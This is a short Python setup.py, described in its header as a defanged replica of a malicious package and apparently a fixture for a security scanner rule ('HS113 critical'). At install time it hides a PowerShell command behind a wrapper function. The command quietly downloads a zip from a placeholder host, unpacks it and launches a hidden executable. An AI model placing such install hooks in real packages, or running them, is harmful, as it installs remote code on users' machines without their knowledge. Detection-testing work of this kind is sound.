# Defanged replica of the clistyling setup.py: the command line reaches
# Popen through a small local wrapper, so the spawn itself only sees a
# parameter. The host is .invalid.
import os
import subprocess

from setuptools import setup


def run(cmd):
    subprocess.Popen(cmd, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


if not os.path.exists("C:/ProgramData/Updater"):
    run(r"powershell -command $ProgressPreference = 'SilentlyContinue'; Invoke-WebRequest -Uri https://drop.example.invalid/Updater.zip -OutFile $env:tmp/update.zip; Expand-Archive -Force -LiteralPath $env:tmp/update.zip -DestinationPath C:/ProgramData; Start-Process -WindowStyle Hidden C:/ProgramData/Updater/update.exe")  # expect: HS113 critical

setup(name="styling-helper", version="2.0", packages=[])
